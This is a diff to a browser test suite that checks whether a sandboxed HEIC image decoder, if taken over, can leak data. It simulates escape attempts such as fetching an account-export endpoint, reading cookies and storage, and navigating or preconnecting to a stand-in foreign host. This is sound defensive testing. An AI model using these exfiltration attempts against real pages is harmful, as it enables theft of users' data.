@@ -15,15 +15,13 @@ const FILE = {
   buffer: readFileSync(join(import.meta.dirname, '../client/importer/fixtures/four-corners.heic')),
 }
 
-/**
- * The stranger who waits for what gets out. Requests count: Chromium opens a connection ahead of a frame's navigation and
- * then refuses the navigation, so that an empty one may arrive.
- */
+/** The stranger who waits for what gets out. An empty connection counts as well: its name would have been asked for. */
 let stranger: Server
 let foreign: string
 let arrived: string[]
 test.beforeAll(async () => {
   stranger = createServer((request, response) => response.end(arrived.push(`${request.method} ${request.url}`)))
+  stranger.on('connection', () => arrived.push('a connection'))
   await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve))
   foreign = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`
 })
@@ -62,7 +60,8 @@ async function attack({ ours, foreign }: { ours: string; foreign: string }): Pro
       worker.onmessage = ({ data }) => resolve(String(data))
       worker.onerror = () => resolve('refused')
     })
-  const page = parent as unknown as { fetch: typeof fetch; document: Document; localStorage: Storage }
+  // whoever is in a document and not in a worker has a parent
+  const page = globalThis.parent as unknown as { fetch: typeof fetch; document: Document; localStorage: Storage }
   const tried: Record<string, () => unknown> = {
     'fetch of the page': () => page.fetch(`${ours}/api/account/export`),
     'document of the page': () => page.document.title,
@@ -72,8 +71,14 @@ async function attack({ ours, foreign }: { ours: string; foreign: string }): Pro
       if (top) top.location.href = foreign
       return 'refused'
     },
+    'another page in its place': () => {
+      self.location.href = `${foreign}/?picture=here`
+      return 'refused, if nothing arrives'
+    },
+    'a connection ahead': () => element('link', { rel: 'preconnect', href: foreign }),
     'a new window': () => (window.open(`${foreign}/window`) ? 'opened' : 'refused'),
-    cookies: () => document.cookie,
+    // in a worker stands what a decoder draws on, and nothing else of a document
+    cookies: () => document.cookie ?? 'refused: none',
     'local storage': () => localStorage.length,
     'session storage': () => sessionStorage.length,
     databases: () =>
@@ -201,21 +206,6 @@ for (const decoder of ['heic2any', 'heic-to'])
     await expect(page).toHaveURL(/\/custom-editor$/)
     await expect(page.getByRole('alert')).toContainText('Error processing image. Please try again.')
   })
-
-test('lets no taken-over decoder carry anything away by leaving', async ({ page }) => {
-  const body = `async () => { location.href = ${JSON.stringify(`${foreign}/?picture=here`)}; await new Promise((r) => setTimeout(r, 3000)); throw new Error('stayed') }`
-  await page.route(/\/assets\/heic(2any|-to)[^/]*\.js$/, (route) =>
-    route.fulfill({ contentType: 'text/javascript', body: chunk(body) }),
-  )
-  await openEditor(page)
-  const left = page.waitForEvent('framenavigated', {
-    predicate: (frame) => frame !== page.mainFrame() && frame.url().startsWith('chrome-error://'),
-    timeout: 0,
-  })
-  await importHeic(page)
-  await left
-  expect(arrived).toEqual([])
-})
 
 test('is a cage also for who opens it as a page', async ({ page, server }) => {
   await openEditor(page)
